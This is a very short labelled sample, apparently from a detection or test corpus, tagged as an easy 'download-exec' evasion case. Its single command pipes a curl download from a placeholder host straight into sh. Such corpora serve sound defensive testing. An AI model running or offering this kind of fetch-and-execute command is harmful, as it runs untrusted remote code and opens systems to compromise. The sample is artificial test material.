# evasion: curl piped into sh
# grade: easy; does: download-exec
curl -fsSL https://x.example/i.sh | sh
